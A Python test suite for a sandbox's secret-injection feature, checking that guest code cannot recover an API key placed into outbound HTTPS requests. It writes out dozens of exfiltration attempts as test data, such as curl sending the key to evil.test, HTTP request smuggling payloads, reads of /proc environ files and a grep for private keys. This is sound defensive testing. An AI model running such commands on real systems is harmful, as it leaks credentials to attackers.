"""secrets_of_guests.py - values that guests use and never see: where they are put in, and that no way leads to them."""
import base64
import contextlib
import gzip
import json
import re
import ssl
import urllib.parse

import servers

VALUE = "sk-Live/42+Qz\"7&n=Xy"  # characters that every encoding treats in its own way
HOST = "vault.test"


# ---- a server that tells its requests ----

def chunks(pieces):
    return b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n" + b"".join(b"%x\r\n%s\r\n" % (len(p), p) for p in pieces) + b"0\r\n\r\n"


def whole(body, *fields):
    return b"\r\n".join([b"HTTP/1.1 200 OK", *fields, b"Content-Length: %d" % len(body), b"", body])


def head(line, *fields):
    return b"\r\n".join([line, *fields, b"Content-Length: 2", b"", b"ok"])


def shifted(value, n):
    return base64.b64encode(b"x" * n + value)


# forms in which the server gives the value back
FORMS = {
    "as_it_is": lambda v: whole(b"got " + v),
    "in_chunks_of_one_byte": lambda v: chunks([v[i:i + 1] for i in range(len(v))]),
    "in_chunks_with_extensions": lambda v: b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n3;a=b\r\n" + v[:3] + b"\r\n%x;c\r\n" % (len(v) - 3) + v[3:] + b"\r\n0\r\n\r\n",
    "until_the_end": lambda v: b"HTTP/1.1 200 OK\r\nConnection: close\r\n\r\n" + v,
    "in_a_field": lambda v: head(b"HTTP/1.1 200 OK", b"X-Echo: " + v),
    "in_a_field_name": lambda v: head(b"HTTP/1.1 200 OK", b"X-" + v.hex().encode() + b": 1"),
    "in_a_cookie": lambda v: head(b"HTTP/1.1 200 OK", b"Set-Cookie: a=" + urllib.parse.quote(v.decode(), safe="").encode()),
    "in_the_reason": lambda v: head(b"HTTP/1.1 200 " + v),
    "in_a_redirect": lambda v: head(b"HTTP/1.1 302 Found", b"Location: http://elsewhere.test/?" + urllib.parse.quote(v.decode()).encode()),
    "in_an_early_hint": lambda v: b"HTTP/1.1 103 Early Hints\r\nLink: <" + v + b">\r\n\r\n" + head(b"HTTP/1.1 200 OK"),
    "in_a_trailer": lambda v: b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\nTrailer: X\r\n\r\n2\r\nok\r\n0\r\nX: " + v + b"\r\n\r\n",
    "in_base64": lambda v: whole(base64.b64encode(v)),
    "in_base64_behind_one_byte": lambda v: whole(shifted(v, 1)),
    "in_base64_behind_two_bytes": lambda v: whole(shifted(v, 2)),
    "in_base64_for_urls": lambda v: whole(base64.urlsafe_b64encode(b"user:" + v)),
    "in_base64_with_line_ends": lambda v: whole(b"\r\n".join(re.findall(b".{1,5}", base64.b64encode(v)))),
    "in_percent": lambda v: whole(urllib.parse.quote(v.decode(), safe="").encode()),
    "in_percent_every_byte": lambda v: whole(b"".join(b"%%%02x" % c for c in v)),
    "in_percent_twice": lambda v: whole(b"".join(b"%%25%02X" % c for c in v)),
    "in_json": lambda v: whole(json.dumps({"v": v.decode()}).encode()),
    "in_json_by_number": lambda v: whole(b"".join(b"\\u%04x" % c for c in v)),
    "in_c": lambda v: whole(b"".join(b"\\x%02x" % c for c in v)),
    "in_octal": lambda v: whole(b"".join(b"\\%03o" % c for c in v)),
    "in_html": lambda v: whole(v.replace(b"&", b"&amp;").replace(b'"', b"&quot;")),
    "in_html_by_number": lambda v: whole(b"".join(b"&#%d;" % c for c in v)),
    "in_html_by_hexadecimal": lambda v: whole(b"".join(b"&#x%X;" % c for c in v)),
    "in_quoted_printable": lambda v: whole(b"".join(b"=%02X" % c for c in v)),
    "in_hexadecimal": lambda v: whole(v.hex().encode()),
    "in_hexadecimal_capitals": lambda v: whole(v.hex(":").upper().encode()),
    "in_capitals": lambda v: whole(v.upper()),
    "in_small_letters": lambda v: whole(v.lower()),
    "backwards": lambda v: whole(v[::-1]),
    "in_utf_16": lambda v: whole(v.decode().encode("utf-16-le")),
    "in_utf_32": lambda v: whole(v.decode().encode("utf-32-be")),
    "mixed": lambda v: whole(b"".join((b"%c", b"%%%02x", b"\\u%04x")[i % 3] % c for i, c in enumerate(v))),
    "compressed": lambda v: whole(gzip.compress(v), b"Content-Encoding: gzip"),
    "in_two_answers": lambda v: whole(v) + whole(v),
    "with_two_lengths": lambda v: b"HTTP/1.1 200 OK\r\nContent-Length: 4\r\nContent-Length: 40\r\n\r\n" + v + v,
    "after_an_upgrade": lambda v: b"HTTP/1.1 101 Switching Protocols\r\nUpgrade: x\r\n\r\n" + v,
    "without_http": lambda v: v,
}


def request(connection):
    data = b""
    while b"\r\n\r\n" not in data:
        more = connection.recv(65536)
        if not more:
            return None, b""
        data += more
    top, _, body = data.partition(b"\r\n\r\n")
    length = re.search(rb"(?i)content-length: *(\d+)", top)
    while length and len(body) < int(length[1]):
        body += connection.recv(65536)
    return top, body


@contextlib.contextmanager
def vault(t, name=HOST, **how):
    """A server of TLS; gives its port and the requests that it saw, as (head, body)."""
    seen, kept = [], {}
    servers.authority(t.dir)
    context = servers.certificate(t.dir, name, **how)

    def answer(top, body):
        path = top.split(b" ")[1].decode() if b" " in top else ""
        given = re.search(rb"(?i)\r\nx-key: *([^\r]*)", top)
        value = given[1] if given else b""
        if path.startswith("/form/"):
            return FORMS[path[6:]](value)
        if path == "/elsewhere":
            port = re.search(rb"(?i)\r\nhost: *[^:\r]*:(\d+)", top)[1]
            return head(b"HTTP/1.1 302 Found", b"Location: https://other.test:%s/" % port)
        if path == "/keep":
            kept["value"] = value
            return whole(b"kept")
        if path == "/kept":
            part = re.search(rb"(?i)\r\nrange: *bytes=(\d+)-(\d+)", top)
            value = kept.get("value", b"")
            return whole(value[int(part[1]):int(part[2]) + 1] if part else value)
        return whole(top + b"\r\n\r\n" + body)

    def serve(connection):
        with contextlib.suppress(ssl.SSLError), context.wrap_socket(connection, server_side=True) as c:
            while True:
                top, body = request(c)
                if top is None:
                    return
                seen.append((top, body))
                c.sendall(answer(top, body))
                if b"until_the_end" in top or b"without_http" in top or b"connection: close" in top.lower():
                    return

    with servers.tcp(serve) as port:
        yield port, seen


def run(t, port, code, *options, secret=None, hosts=(HOST,), words=("python3", "-c"), **keywords):
    names = [word for name in hosts for word in ("--add-host", f"{name}=127.0.0.1")]
    return t.run("--net-ca", "ca.pem", "--secret", secret or f"KEY@{HOST}:{port}", "--allow-net", f"127.0.0.1:{port}", *names, *options, "--", *words,
                 f"PORT, HOST = {port}, {HOST!r}\n" + code if words[0] == "python3" else code, env={"KEY": VALUE}, **keywords)


GUEST = """
import base64, http.client, os, socket, ssl, sys, urllib.request
KEY = os.environ['KEY']
def ask(path='/', method='GET', body=None, host=HOST, **fields):
    c = http.client.HTTPSConnection(host, PORT, timeout=60)
    c.request(method, path, body, {name.replace('_', '-'): value for name, value in fields.items()})
    r = c.getresponse()
    print(r.status, r.reason, r.getheaders())
    data = r.read()
    sys.stdout.flush()
    sys.stdout.buffer.write(data + b'\\n')
    c.close()
def attempt(function, *arguments, **keywords):
    try:
        function(*arguments, **keywords)
    except Exception as e:
        print(type(e).__name__, e)
def raw(data, name=HOST, to=HOST, verify=True):
    context = ssl.create_default_context() if verify else ssl._create_unverified_context()
    with context.wrap_socket(socket.create_connection((to, PORT), timeout=60), server_hostname=name) as s:
        s.sendall(data)
        while data := s.recv(65536):
            sys.stdout.buffer.write(data)
"""


def leaks(data):
    """Whether the value can be read in these bytes, in any of the forms."""
    plain, value = data.replace(b"\0", b"").lower(), VALUE.encode()
    bare = re.sub(rb"[\r\n]", b"", data).replace(b"-", b"+").replace(b"_", b"/")
    forms = [value.lower(), value[::-1].lower(), value.hex().encode(), value.hex(":").encode(), b"".join(b"%%%02x" % c for c in value), b"".join(b"%%25%02x" % c for c in value),
             b"".join(b"\\u%04x" % c for c in value), b"".join(b"\\x%02x" % c for c in value), b"".join(b"\\%03o" % c for c in value), b"".join(b"&#%d;" % c for c in value),
             b"".join(b"&#x%x;" % c for c in value), b"".join(b"=%02x" % c for c in value), urllib.parse.quote(VALUE, safe="").lower().encode(), urllib.parse.quote(VALUE).lower().encode(),
             json.dumps(VALUE)[1:-1].lower().encode(), VALUE.replace("&", "&amp;").replace('"', "&quot;").lower().encode(), VALUE[3:12].lower().encode()]
    cores = [base64.b64encode(b"x" * n + value)[4:-4] for n in range(3)]
    return any(form in plain for form in forms) or any(core in bare for core in cores)


def check(r, what):
    assert not leaks(r.out), (what, r)
    assert not leaks(r.err), (what, r)


# ---- it works ----

def test_a_secret_is_put_into_headers_for_its_host(t):
    with vault(t) as (port, seen):
        r = run(t, port, GUEST + "print(KEY)\nask(Authorization='Bearer ' + KEY)\n")
        check(r, "bearer")
        assert re.match(r"cay-secret-KEY-[0-9a-f]{24}\n200 OK ", r.text) and f"Bearer {'*' * len(VALUE)}" in r.text, r
        assert f"Authorization: Bearer {VALUE}\r\n".encode() in seen[0][0] + b"\r\n", seen
        assert r.code == 0 and r.errors == "", r


def test_a_secret_is_put_into_basic_authentication(t):
    with vault(t) as (port, seen):
        r = run(t, port, GUEST + "ask(Authorization='Basic ' + base64.b64encode(f'me:{KEY}'.encode()).decode())\n")
        check(r, "basic")
        assert b"Basic " + base64.b64encode(f"me:{VALUE}".encode()) in seen[0][0], (seen, r)


def test_a_secret_is_put_into_query_and_body_where_that_is_granted(t):
    with vault(t) as (port, seen):
        code = GUEST + """
import json
ask('/x?a=' + KEY + '&b=1')
ask('/form', 'POST', 'k=' + KEY + '&z=1', Content_Type='application/x-www-form-urlencoded')
ask('/json', 'POST', json.dumps({'k': KEY}), Content_Type='application/json')
ask('/chunks', 'POST', iter([b'<', KEY[:7].encode(), KEY[7:].encode(), b'>']))
"""
        r = run(t, port, code, secret=f"KEY@{HOST}:{port}+query+body")
        check(r, "places")
        assert seen[0][0].startswith(b"GET /x?a=%s&b=1 " % urllib.parse.quote(VALUE, safe="").encode()), (seen, r)
        assert seen[1][1] == b"k=%s&z=1" % urllib.parse.quote(VALUE, safe="").encode(), seen[1]
        assert json.loads(seen[2][1]) == {"k": VALUE}, seen[2]
        assert seen[3][1] == f"<{VALUE}>".encode(), seen[3]


def test_a_connection_carries_many_requests(t):
    with vault(t) as (port, seen):
        code = GUEST + """
c = http.client.HTTPSConnection(HOST, PORT)
for i in range(20):
    c.request('POST' if i % 2 else 'GET', f'/{i}', b'x' * i * 5000 if i % 2 else None, {'X-Key': KEY})
    print(c.getresponse().read().count(b'x' * 5000))
"""
        r = run(t, port, code)
        assert [int(n) for n in r.text.split()] == [i if i % 2 else 0 for i in range(20)], r
        assert len(seen) == 20 and all(VALUE.encode() in top for top, _ in seen), len(seen)


def test_a_relay_works_while_the_guest_has_no_memory_or_descriptors(t):
    exhausted = {
        "memory": """
held = []
size = 1 << 24
while size >= 1 << 16:
    try: held.append(bytearray(size))
    except MemoryError: size //= 2
""",
        "descriptors": """
held = []
try:
    while True: held.append(os.open('/dev/null', os.O_RDONLY))
except OSError as e: print(e.strerror)
""",
    }
    with vault(t) as (port, seen):
        for what, code in exhausted.items():
            seen.clear()
            keeps = GUEST + """
context = ssl.create_default_context()
s = context.wrap_socket(socket.create_connection((HOST, PORT), timeout=60), server_hostname=HOST)
def again(path):
    s.sendall(f'GET {path} HTTP/1.1\\r\\nHost: {HOST}:{PORT}\\r\\nX-Key: {KEY}\\r\\n\\r\\n'.encode())
    return s.recv(4096).startswith(b'HTTP/1.1 200')
print(again('/before'))
""" + code + """
try: print(again('/at-the-limit'))
except (MemoryError, OSError) as e: print(type(e).__name__)
try: ask()
except Exception as e: print(type(e).__name__)
held.clear() if not held or not isinstance(held[0], int) else [os.close(fd) for fd in held]
ask('/after', X_Key=KEY)
"""
            r = run(t, port, keeps, "--memory", "96M")
            check(r, what)
            assert r.code == 0 and r.text.startswith("True\n") and "GET /after" in r.text, (what, r)
            assert all(VALUE.encode() in top for top, _ in seen if b"/before" in top or b"/after" in top) and seen, (what, seen)


def test_curl_and_pieces_of_a_shell_use_a_secret(t):
    with vault(t) as (port, seen):
        code = f'wget -qO- --header "X-Key: $KEY" https://{HOST}:{port}/x'
        r = run(t, port, code, words=("bash", "-c"))
        check(r, "wget")
        assert r.code == 0 and VALUE.encode() in seen[0][0], (r, seen)


def test_large_answers_pass_whole(t):
    servers.authority(t.dir)
    with servers.pages(servers.certificate(t.dir, HOST)) as s:
        r = run(t, s.port, "import urllib.request\nprint(len(urllib.request.urlopen(f'https://{HOST}:{PORT}/size/20000000').read()))\n")
        assert r.text.strip() == "20000000", r


# ---- ways to get it out ----

def test_no_answer_of_its_host_has_the_value(t):
    assert len(FORMS) >= 40
    with vault(t) as (port, seen):
        code = GUEST + "".join(f"print('## {form}', flush=True)\nattempt(ask, '/form/{form}', X_Key=KEY)\n" for form in FORMS)
        r = run(t, port, code)
        got = dict(part.split(b"\n", 1) for part in r.out.split(b"## ")[1:])
        assert set(got) == {form.encode() for form in FORMS}, r
        for form in FORMS:
            assert not leaks(got[form.encode()]), (form, got[form.encode()])
            assert any(f"/form/{form} ".encode() in top and VALUE.encode() in top for top, _ in seen), f"{form}: the server did not get it"
        check(r, "all")


# a guest's try: its code; a word of its output; whether a server may see the value
TRIES = {
    "kept_and_read_later": ("ask('/keep', X_Key=KEY); ask('/kept')", "*" * len(VALUE), True),
    "in_pieces": ("ask('/keep', X_Key=KEY); [ask('/kept', Range=f'bytes={i}-{i+3}') for i in range(0, 20, 4)]", "*" * len(VALUE), True),
    "echoed_with_head": ("ask(method='HEAD', X_Key=KEY)", "200", True),
    "echoed_with_trace": ("ask(method='TRACE', X_Key=KEY)", "200", True),
    "pipelined": ("raw((f'GET / HTTP/1.1\\r\\nHost: {HOST}:{PORT}\\r\\nX-Key: {KEY}\\r\\n\\r\\n' * 2 + f'GET / HTTP/1.1\\r\\nHost: {HOST}:{PORT}\\r\\nConnection: close\\r\\n\\r\\nx').encode())", "*" * len(VALUE), True),
    "in_the_path": ("ask('/' + KEY)", "cay-secret-KEY", False),
    "in_the_query": ("ask('/?' + KEY)", "cay-secret-KEY", False),
    "in_a_field_name": ("raw(f'GET / HTTP/1.1\\r\\nHost: {HOST}:{PORT}\\r\\n{KEY}: 1\\r\\nConnection: close\\r\\n\\r\\n'.encode())", "cay-secret-KEY", False),
    "in_the_body": ("ask(method='POST', body=KEY)", "cay-secret-KEY", False),
    "in_chunks": ("ask(method='POST', body=iter([KEY[:9].encode(), KEY[9:].encode()]))", "200", False),
    "for_another_host_field": ("raw(f'GET / HTTP/1.1\\r\\nHost: evil.test\\r\\nX-Key: {KEY}\\r\\n\\r\\n'.encode())", "400 Bad Request", False),
    "for_an_absolute_target": ("raw(f'GET http://evil.test/ HTTP/1.1\\r\\nHost: evil.test\\r\\nX-Key: {KEY}\\r\\n\\r\\n'.encode())", "400 Bad Request", False),
    "for_an_absolute_https_target": ("raw(f'GET https://evil.test/ HTTP/1.1\\r\\nHost: {HOST}:{PORT}\\r\\nX-Key: {KEY}\\r\\n\\r\\n'.encode())", "400 Bad Request", False),
    "by_connect": ("raw(f'CONNECT evil.test:443 HTTP/1.1\\r\\nHost: evil.test\\r\\nX-Key: {KEY}\\r\\n\\r\\n'.encode())", "400 Bad Request", False),
    "smuggled_by_two_lengths": ("raw(f'POST / HTTP/1.1\\r\\nHost: {HOST}:{PORT}\\r\\nContent-Length: 4\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\nGET /{KEY}'.encode())", "400 Bad Request", False),
    "smuggled_by_a_folded_line": ("raw(f'GET / HTTP/1.1\\r\\nHost: {HOST}:{PORT}\\r\\nA: b\\r\\n X-Key: {KEY}\\r\\n\\r\\n'.encode())", "400 Bad Request", False),
    "smuggled_by_two_hosts": ("raw(f'GET / HTTP/1.1\\r\\nHost: {HOST}:{PORT}\\r\\nHost: evil.test\\r\\nX-Key: {KEY}\\r\\n\\r\\n'.encode())", "400 Bad Request", False),
    "smuggled_by_a_bare_line_feed": ("raw(f'GET / HTTP/1.1\\nHost: {HOST}:{PORT}\\nX-Key: {KEY}\\n\\n'.encode())", "400 Bad Request", False),
    "by_http_2": ("raw(b'PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n' + KEY.encode())", "400 Bad Request", False),
    "by_another_server_name": ("raw(f'GET / HTTP/1.1\\r\\nHost: {HOST}:{PORT}\\r\\nX-Key: {KEY}\\r\\nConnection: close\\r\\n\\r\\n'.encode(), name='other.test', verify=False)", "cay-secret-KEY", False),
    "from_the_environment": ("print(os.environ, open('/proc/self/environ').read())", "cay-secret-KEY", False),
    "from_other_processes": ("import glob\n[attempt(lambda: print(open(f).read())) for f in glob.glob('/proc/[0-9]*/[ces]*') if os.path.isfile(f)]", "cay-secret-KEY", False),
    "from_a_key_of_the_authority": ("print(open('/etc/ssl/certs/ca-certificates.crt').read()[-2500:]); print(os.popen(\"grep -rl 'PRIVATE KEY' /etc /tmp /home /usr/lib/ssl 2>/dev/null\").read(), 'none')", "CERTIFICATE", False),
    "from_an_error": ("raise SystemExit(KEY)", "", False),
    "as_a_cookie": ("ask(Cookie='k=' + KEY)", "*" * len(VALUE), True),
    "many_times": ("ask(X_Key=KEY * 50)", "*" * len(VALUE) * 50, True),
    "in_two_fields": ("ask(X_Key=KEY[:25], X_Other=KEY[25:])", "cay-secret-KEY", False),
    "in_base64_of_a_token": ("ask(Authorization='Bearer ' + base64.b64encode(KEY.encode()).decode())", "200", False),
    "as_a_part": ("ask(X_Key=KEY, Range='bytes=0-3')", "*" * len(VALUE), True),
    "compressed_on_demand": ("ask('/form/compressed', X_Key=KEY, Accept_Encoding='gzip')", "502 Bad Gateway", True),
    "by_a_websocket": ("raw(''.join(f'GET / HTTP/1.1\\r\\nHost: {HOST}:{PORT}\\r\\nX-Key: {KEY}\\r\\n{more}\\r\\n' for more in "
                       "('Connection: Upgrade\\r\\nUpgrade: websocket\\r\\n', 'Connection: close\\r\\n')).encode())", "*" * len(VALUE), True),
    "for_no_path": ("raw(f'OPTIONS * HTTP/1.1\\r\\nHost: {HOST}:{PORT}\\r\\nX-Key: {KEY}\\r\\nConnection: close\\r\\n\\r\\n'.encode())", "*" * len(VALUE), True),
    "without_tls": ("s = socket.create_connection((HOST, PORT), timeout=60); s.sendall(f'GET / HTTP/1.1\\r\\nHost: {HOST}:{PORT}\\r\\nX-Key: {KEY}\\r\\n\\r\\n'.encode()); print('answer', s.recv(100))", "", False),
    "without_a_server_name": ("raw(f'GET / HTTP/1.1\\r\\nHost: {HOST}:{PORT}\\r\\nX-Key: {KEY}\\r\\nConnection: close\\r\\n\\r\\n'.encode(), name=None, verify=False)", "cay-secret-KEY", False),
    "to_the_address": ("raw(f'GET / HTTP/1.1\\r\\nHost: {HOST}:{PORT}\\r\\nX-Key: {KEY}\\r\\nConnection: close\\r\\n\\r\\n'.encode(), to='192.0.2.2')", "*" * len(VALUE), True),
    "in_a_name": ("socket.create_connection((KEY[:60] + '.test', PORT), timeout=60)", "", False),
    "from_the_certificate": ("print(ssl.get_server_certificate((HOST, PORT)))", "CERTIFICATE", False),
    "in_parts_of_a_form": ("ask('/', 'POST', '--b\\r\\nContent-Disposition: form-data; name=a\\r\\n\\r\\n' + KEY + '\\r\\n--b--\\r\\n', Content_Type='multipart/form-data; boundary=b')", "cay-secret-KEY", False),
    "behind_a_redirect": ("print(os.popen(f'curl -skL -H \"X-Key: {KEY}\" https://{HOST}:{PORT}/elsewhere').read())", "cay-secret-KEY", True),
    "by_curl_to_another_host": ("print(os.popen(f'curl -sk -H \"X-Key: {KEY}\" https://evil.test:{PORT}/').read())", "cay-secret-KEY", False),
    "by_fetch": ("import subprocess; print(subprocess.run(['node', '-e', f'fetch(\"https://{HOST}:{PORT}/\", {{headers: {{\"X-Key\": process.env.KEY}}}}).then((r) => r.text()).then(console.log)'], capture_output=True))", "*" * len(VALUE), True),
}


def test_no_try_of_a_guest_gets_the_value(t):
    assert len(TRIES) >= 40
    with vault(t) as (port, seen):
        for name, (code, answer, reaches) in TRIES.items():
            del seen[:]
            r = run(t, port, GUEST + f"attempt(lambda: exec({code!r}, globals()))\n", hosts=(HOST, "other.test", "evil.test"))
            check(r, name)
            assert answer in r.text + r.errors, (name, r)
            assert "PRIVATE KEY-" not in r.text, (name, r)
            assert any(leaks(top + body) for top, body in seen) == reaches, (name, seen, r)
            assert not any(leaks(top + body) for top, body in seen if f"host: {HOST}:{port}".encode() not in top.lower()), (name, seen)


def test_a_server_that_cannot_prove_its_name_gets_nothing(t):
    for how, fault in (({"expired": True}, "certificate has expired"), ({"own": True}, "self-signed certificate"), ({"name": "evil.test"}, "Hostname mismatch")):
        with vault(t, **how) as (port, seen):
            r = run(t, port, GUEST + "attempt(ask, X_Key=KEY)\nattempt(raw, f'GET / HTTP/1.1\\r\\nHost: {HOST}:{PORT}\\r\\nX-Key: {KEY}\\r\\n\\r\\n'.encode(), verify=False)\n")
            check(r, fault)
            assert fault in r.text and "502 Bad Gateway" in r.text and seen == [], (fault, r, seen)


def test_a_server_without_tls_gets_nothing(t):
    got = []

    def garbage(connection):
        connection.sendall(b"220 mail\r\n")
        got.append(connection.recv(65536))
    servers.authority(t.dir)
    with servers.tcp(garbage) as port:
        r = run(t, port, GUEST + "attempt(ask, X_Key=KEY)\n")
        assert "SSLError" in r.text and not any(leaks(g) for g in got), (r, got)


def test_plain_http_carries_the_placeholder_and_it_is_told(t):
    with servers.pages() as s:
        r = t.run("--secret", f"KEY@{HOST}:{s.port}", "--allow-net", f"127.0.0.1:{s.port}", "--add-host", f"{HOST}=127.0.0.1", f'wget -qO- "http://{HOST}:{s.port}/?$KEY"', env={"KEY": VALUE})
        check(r, "plain")
        assert "cay-secret-KEY" in s.seen[0][2] and "KEY, to" in r.errors, (r, s.seen)


def test_a_snapshot_has_no_value(t):
    with vault(t) as (port, seen):
        r = run(t, port, GUEST + "ask('/keep', X_Key=KEY); ask('/kept')\nopen('kept', 'w').write(KEY)\n", "--save-snapshot", "s.cay", "--out", "kept")
        check(r, "saving")
        assert r.code == 0 and VALUE.encode() in seen[0][0], r
        assert not leaks((t.dir / "s.cay").read_bytes()) and not leaks((t.dir / "kept").read_bytes())
        r = run(t, port, GUEST + "print(KEY == open('kept').read())\nask(X_Key=KEY)\n", "--snapshot", "s.cay")
        check(r, "restored")
        assert r.text.startswith("False\n200 ") and VALUE.encode() in seen[-1][0], r


def test_reports_and_traces_have_no_value(t):
    with vault(t) as (port, seen):
        code = GUEST + "ask(X_Key=KEY)\n"
        for options in (("--json",), ("--strace",), ("--stats",)):
            check(run(t, port, code, *options), options)
        assert len(seen) == 3, seen
        r = t.run("--secret", f"KEY={VALUE}@{HOST}", "true")
        assert r.code != 0 and not leaks(r.err) and "env:VARIABLE" in r.errors, r


# ---- options ----

def test_a_secret_comes_from_a_file_or_another_variable(t):
    t.path("key", VALUE + "\n")
    with vault(t) as (port, seen):
        for source in ("file:key", "env:KEY"):
            r = run(t, port, GUEST.replace("os.environ['KEY']", "os.environ['TOKEN']") + "ask(X_Key=KEY)\n", secret=f"TOKEN={source}@{HOST}:{port}")
            assert VALUE.encode() in seen[-1][0], (source, r)
        assert len(seen) == 2


def test_bad_secrets_are_refused_in_words(t):
    for text, words in (("KEY", "NAME@HOST"), ("KEY@", "no host"), ("NONE@a.test", "NONE is not set"), ("KEY@10.0.0.1", "no name"), ("KEY@*", "no HOST"), ("SHORT@a.test", "8 to 4096"),
                        ("KEY=file:/none@a.test", "No such file"), ("KEY@a.test+path", "+query and +body"), ("A-B=env:KEY@a.test", "letters, digits"), ("LINE@a.test", "printable")):
        r = t.run("--allow-net", "a.test", "--secret", text, "true", env={"KEY": VALUE, "SHORT": "1234567", "LINE": "12345678\n90"})
        assert r.code != 0 and words in r.errors and not leaks(r.err), (text, r)


def test_rules_about_paths_hold_inside_of_tls(t):
    with vault(t) as (port, seen):
        rules = json.dumps([{"action": "allow", "host": HOST, "cidr": "127.0.0.1", "path": "/open", "method": "GET"}])
        names = ("--add-host", f"{HOST}=127.0.0.1")
        code = f"PORT, HOST = {port}, {HOST!r}\n" + GUEST + "attempt(ask, '/open/x', X_Key=KEY)\nattempt(ask, '/shut', X_Key=KEY)\nattempt(ask, '/open', 'POST', X_Key=KEY)\n"
        r = t.run("--net-ca", "ca.pem", "--secret", f"KEY@{HOST}:{port}", "--net-rules", rules, *names, "--", "python3", "-c", code, env={"KEY": VALUE})
        assert [line.split(" ")[0] for line in r.text.splitlines() if " [(" in line] == ["200", "403", "403"] and len(seen) == 1, (r, seen)
